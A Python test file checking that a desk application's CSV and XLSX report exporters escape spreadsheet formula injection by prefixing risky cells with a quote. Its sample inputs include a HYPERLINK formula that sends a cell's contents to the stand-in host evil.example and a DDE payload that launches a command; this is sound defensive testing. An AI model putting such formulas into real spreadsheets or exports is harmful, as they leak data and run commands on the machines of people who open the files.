"""Exports are inert (issue 15, item 6): a cell that a spreadsheet would run as a formula
(``= + - @``, tab, carriage return) is written as text — prefixed with ``'`` — by every
CSV and XLSX writer; plain and real numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from types import SimpleNamespace

import pytest

from deskapp.services import export
from deskapp.services.listing import ListColumn, ListQuery, ListRow

ATTACK = '=HYPERLINK("http://evil.example/?"&F5,"查看详情")'
NASTY = [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", NASTY)
def test_formula_text_becomes_text(value):
    assert export.inert(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.50", "-¥1,234.56", "+3", "-5%", "张三", "", "1-2-301",
                                   "'=already quoted"])
def test_plain_values_are_left_alone(value):
    assert export.inert(value) == value


def test_numbers_are_never_touched():
    assert export.inert(-5) == -5 and export.inert(None) is None


class Evil:
    columns = [ListColumn("name", "reports.xlsx.item", 20),
               ListColumn("amount", "reports.xlsx.yuan", 12, "right")]
    filters: list = []

    def count(self, session, query) -> int:
        return len(NASTY)

    def fetch(self, session, query, offset, limit, *, reverse=False):
        return [ListRow(i, (v, "-12.50")) for i, v in enumerate(NASTY)][offset:offset + limit]


def _sheet_values(data: bytes) -> list[object]:
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for c in row]


def _assert_inert_xlsx(data: bytes) -> None:
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "@", "\t", "\r")), cell.value


def test_list_export_csv_and_xlsx(db):
    with db.read() as s:
        data, _ = export.export_bytes(s, source=Evil(), query=ListQuery(), fmt="csv")
        xlsx, _ = export.export_bytes(s, source=Evil(), query=ListQuery(), fmt="xlsx")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    names = [r[0] for r in rows[1:]]
    assert names == ["'" + v for v in NASTY]
    assert all(r[1] == "-12.50" for r in rows[1:])
    _assert_inert_xlsx(xlsx)
    values = _sheet_values(xlsx)
    assert "'" + ATTACK in values
    assert -12.5 in values  # a real negative number stays a number


def test_cashier_report_csv_and_xlsx():
    from deskapp.reporting import csv as csv_out
    from deskapp.reporting import xlsx
    from deskapp.reporting.table import Column
    from deskapp.services.cashier.report import Report

    report = Report(title="收费日报", summary=[("付款人", ATTACK)],
                    columns=[Column("n", "cashier.col.number"), Column("p", "cashier.col.payer"),
                             Column("a", "cashier.col.amount", "money")],
                    rows=[["R1", ATTACK, -1250], ["R2", "@x", 300]]).table()
    rows = list(csv.reader(io.StringIO(csv_out.render(report, tables=report.tables[1:]))))
    assert rows[1] == ["R1", "'" + ATTACK, "-12.50"] and rows[2][1] == "'@x"
    data = xlsx.render(report)
    _assert_inert_xlsx(data)
    assert -12.5 in _sheet_values(data)


def test_complaints_report_csv_and_xlsx(monkeypatch):
    from deskapp.reporting import csv as csv_out
    from deskapp.reporting import xlsx
    from deskapp.reporting.table import Cell
    from deskapp.services.complaints import report as complaints_report

    monkeypatch.setattr(complaints_report, "rows",
                        lambda f: [[ATTACK, Cell(3, "int"), Cell(-1, "int")]])
    figures = SimpleNamespace(year=2026, month=11)
    report = complaints_report.table(figures)
    rows = list(csv.reader(io.StringIO(csv_out.render(report))))
    assert rows[1] == ["'" + ATTACK, "3", "-1"]
    data = xlsx.render(report)
    _assert_inert_xlsx(data)
    assert 3 in _sheet_values(data)


def test_survey_report_xlsx(monkeypatch):
    from deskapp.services.survey import report as survey_report

    monkeypatch.setattr(survey_report, "rate_lines", lambda progress: [(ATTACK, "-1")])
    report = SimpleNamespace(
        campaign=SimpleNamespace(title="=1+1", distribution_date=date(2026, 6, 1),
                                 collection_deadline=date(2026, 6, 30),
                                 statistics_due=date(2026, 7, 10), report_due=date(2026, 7, 20)),
        progress=None,
        stats=SimpleNamespace(overall=SimpleNamespace(satisfaction_rate=None, mean=None,
                                                      n=0, counts=[0] * 5),
                              sections=[], items=[], buildings=[], responses=0,
                              previous_overall=None, previous_title=""),
        opinions={}, followups=SimpleNamespace(total=0, open=0, answered=0, replied=0, escalated=0),
        site_name="=HYPERLINK(1)", previous=None, lowest=[], all_items=[],
        made_at=datetime(2026, 7, 10, 9, 0))
    monkeypatch.setattr(survey_report, "OpinionQuestion", [])
    monkeypatch.setattr(survey_report, "pct", lambda v: "-")
    monkeypatch.setattr(survey_report, "mean", lambda v: "-")
    data = survey_report.to_xlsx(report)
    _assert_inert_xlsx(data)
    assert "'" + ATTACK in _sheet_values(data)


def test_monthly_report_xlsx(db, supervisor, monkeypatch):
    from deskapp.printing import monthly_report
    from deskapp.services.reports import monthly
    from deskapp.services.reports import render as reports_render

    with db.read() as s:
        report = monthly.monthly_report(s, by=supervisor, year=2026, month=11)
    monkeypatch.setattr(reports_render, "header_lines", lambda r: [ATTACK, "+cmd"])
    data = monthly_report.render_xlsx(report)
    _assert_inert_xlsx(data)
    assert "'" + ATTACK in _sheet_values(data)
